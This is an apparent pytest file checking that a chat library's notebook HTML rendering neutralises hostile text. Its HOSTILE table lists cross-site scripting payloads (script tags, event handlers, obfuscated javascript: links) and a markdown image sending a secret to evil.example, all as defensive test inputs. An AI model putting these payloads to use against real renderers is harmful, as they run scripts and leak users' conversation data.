"""HTML for notebooks: displays everything that was written, and nothing of it is active."""

from __future__ import annotations

import subprocess
import sys
import time
from decimal import Decimal
from html.parser import HTMLParser

import pytest

from acechat import (
    AssistantMessage,
    AsyncClient,
    ChatCompletion,
    Choice,
    Client,
    Cost,
    RunResult,
    ToolCall,
    ToolResult,
    Turn,
    Usage,
    image,
)
from acechat._display import html
from acechat.types.messages import FunctionCall

PNG = "data:image/png;base64,iVBORw0KGgo="
HOSTILE = {
    "script": "<script>owned()</script>",
    "image": "<img src=x onerror=owned()>",
    "svg": "<svg/onload=owned()>",
    "comment": "<!--><script>owned()</script>-->",
    "data": "<iframe srcdoc='<script>owned()</script>'>",
    "link": "[here](javascript:owned())",
    "coded link": "[here](&#106;avascript:owned())",
    "tabbed link": "<a href='java\tscript:owned()'>here</a>",
    "auto link": "<javascript:owned()>",
    "reference": "[here][1]\n\n[1]: javascript:owned()",
    "data link": "[here](data:text/html,<script>owned()</script>)",
    "remote image": "![all that you said](https://evil.example/?secret)",
    "svg image": "![x](data:image/svg+xml;base64,AAAA)",
    "title": '[here](https://example.com "><script>owned()</script>")',
    "fence": '```"><script>owned()</script>\n<script>owned()</script>\n```',
    "quote": '"><script>owned()</script>',
    "end of style": "</style></div></details></pre><script>owned()</script>",
    "math": "$\\href{javascript:owned()}{x}$",
    "null": "<scr\0ipt>owned()</script>",
}
TAGS = {"div", "details", "summary", "pre", "code", "p", "a", "blockquote", "em", "strong", "s",
        "ul", "ol", "li", "h1", "h2", "h3", "table", "thead", "tbody", "tr", "th", "td", "br", "hr",
        "img"}  # fmt: skip


class Checked(HTMLParser):
    """Parses a page; fails for elements that are active or load something."""

    def __init__(self, page):
        super().__init__()
        self.text = ""
        self.images = []
        self.open = []
        self.feed(page)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS
        attributes = dict(attrs)
        for name, value in attrs:
            assert name in {"class", "style", "href", "title", "src", "alt", "start"}
            assert name != "style" or "url" not in value
        if "href" in attributes:
            assert attributes["href"].startswith(("https://", "http://", "mailto:"))
        if tag == "img":
            assert attributes["src"].startswith("data:image/png;base64,")
            self.images.append(attributes["src"])
        elif tag not in {"br", "hr"}:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_comment

    def handle_data(self, data):
        self.text += data


def completion(text="", **fields):
    message = AssistantMessage(content=text, **fields)
    return ChatCompletion([Choice(message=message, finish_reason="stop")], model="claude-opus-4")


def call(name="weather", arguments="{}"):
    return ToolCall(id="c1", function=FunctionCall(name=name, arguments=arguments))


def run(text, name="weather", urls=()):
    result = ToolResult(call=call(name), content=text, images=tuple(map(image, urls)))
    first = Turn(completion("", tool_calls=[call(name, text)]), (result,))
    return RunResult((first, Turn(completion(text))), ())


def conversation(*messages, system=None):
    return Client("token").conversation(system=system, messages=messages)


PLACES = {
    "text": completion,
    "reasoning": lambda text: completion("x", reasoning_content=text),
    "refusal": lambda text: completion("", refusal=text),
    "arguments": lambda text: completion("", tool_calls=[call("look", text)]),
    "name of a tool": lambda text: completion("", tool_calls=[call(text)]),
    "model": lambda text: ChatCompletion([Choice()], model=text),
    "finish reason": lambda text: ChatCompletion([Choice(finish_reason=text)]),
    "choices": lambda text: ChatCompletion([Choice(message=AssistantMessage(content=text))] * 2),
    "result of a tool": run,
    "name in a run": lambda text: run("x", text),
    "prompt": lambda text: conversation({"role": "user", "content": text}),
    "history": lambda text: conversation({"role": "assistant", "content": text}),
    "part": lambda text: conversation(
        {"role": "user", "content": [{"type": "text", "text": text}]}
    ),
    "system": lambda text: conversation(system=text),
    "tool message": lambda text: conversation(
        {"role": "tool", "content": text, "tool_call_id": "c1"}
    ),
    "address of an image": lambda text: conversation(
        {"role": "user", "content": [{"type": "image_url", "image_url": {"url": text}}]}
    ),
}


@pytest.fixture(params=["markdown", "no markdown-it-py"])
def parser(request, monkeypatch):
    if request.param == "markdown":
        pytest.importorskip("markdown_it", reason="needs markdown-it-py")
    else:
        monkeypatch.setattr(html, "_parser", lambda: None)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_active(parser, place, text):
    shown = Checked(PLACES[place](HOSTILE[text])._repr_html_())

    assert shown.images == []
    if text not in {"remote image", "title", "reference", "svg image"}:
        assert "owned()" in shown.text or "here" in shown.text


@pytest.mark.usefixtures("parser")
@pytest.mark.parametrize("levels", [3, 45, 60, 4000])
def test_nothing_is_left_out_of_a_deeply_nested_text(levels):
    assert "the end" in Checked(completion("> " * levels + "the end")._repr_html_()).text


def test_markdown_is_rendered():
    pytest.importorskip("markdown_it", reason="needs markdown-it-py")
    text = "# Title\n\n**bold** `a < b`\n\n```python\nif a < b: List<String>\n```\n\n"
    text += "| a |\n|---|\n| 1 |"

    page = completion(text)._repr_html_()

    assert "<h1>Title</h1>" in page
    assert "<strong>bold</strong> <code>a &lt; b</code>" in page
    assert "if a &lt; b: List&lt;String&gt;" in page
    assert "<td>1</td>" in page


def test_a_completion_shows_its_reasoning_model_tokens_cost_and_end():
    cost = Cost(amount=Decimal("0.25"), currency="credits")
    usage = Usage(prompt_tokens=5, completion_tokens=7, total_tokens=12, cost=cost)
    message = AssistantMessage(content="Forty", reasoning_content="Let me think")
    reply = ChatCompletion(
        [Choice(message=message, finish_reason="length")], model="m", usage=usage
    )

    text = Checked(reply._repr_html_()).text

    assert text.index("reasoning") < text.index("Let me think") < text.index("Forty")
    assert text.endswith("m · tokens 12 · cost 0.25 credits · length")
    assert "incomplete" in ChatCompletion([Choice()])._repr_html_()


def test_a_run_shows_its_tool_calls_results_and_images():
    text = Checked(run("rain", urls=[PNG])._repr_html_())

    assert text.images == [PNG]
    assert text.text.index("weather(rain)") < text.text.index("result of weather")
    assert text.text.endswith("turns 2")


def test_a_conversation_shows_its_messages():
    history = [
        {"role": "user", "content": [{"type": "text", "text": "Look"},
                                     {"type": "image_url", "image_url": {"url": PNG}}]},
        {"role": "assistant", "content": "A cat"},
    ]  # fmt: skip
    both = [conversation(*history, system="Be brief."),
            AsyncClient("token").conversation(system="Be brief.", messages=history)]  # fmt: skip

    pages = [Checked(each._repr_html_()) for each in both]

    assert pages[0].text == pages[1].text
    shown = [pages[0].text.index(each) for each in ("Be brief.", "Look", "A cat", "messages 2")]
    assert shown == sorted(shown)
    assert pages[0].images == [PNG]


def test_an_image_is_displayed_if_it_has_its_bytes():
    assert Checked(image(PNG)._repr_html_()).images == [PNG]
    remote = Checked(image("https://example.com/cat.png")._repr_html_())
    assert (remote.images, remote.text) == ([], "image: https://example.com/cat.png")


def test_long_texts_and_histories_are_bounded():
    history = [{"role": "user", "content": f"number {number}"} for number in range(1000)]
    long = completion("x" * 300_000)._repr_html_()
    page = Checked(conversation(*history)._repr_html_()).text

    assert "(100,000 more characters)" in long
    assert len(long) < 210_000
    assert "… 950 earlier messages" in page
    assert "number 949" not in page
    assert "number 950" in page


@pytest.mark.parametrize("unit", ["<", "[", "[a](", "*a ", "**a", "`a ", "- ", "![a](", "> a\n"])
def test_a_hostile_text_is_rendered_in_a_second(unit):
    pytest.importorskip("markdown_it", reason="needs markdown-it-py")
    began = time.process_time()

    completion(unit * (20_000 // len(unit)))._repr_html_()

    assert time.process_time() - began < 1


def test_a_client_imports_none_of_it():
    program = """
        import sys
        from acechat import AceChatError, ChatCompletion, Client
        repr(ChatCompletion(choices=[]))
        found = {"IPython", "markdown_it", "html", "acechat._display"} & set(sys.modules)
        print(sorted(found))
    """
    lines = "\n".join(line.strip() for line in program.splitlines())
    done = subprocess.run(
        [sys.executable, "-c", lines], capture_output=True, text=True, check=True, timeout=60
    )
    assert done.stdout == "[]\n"
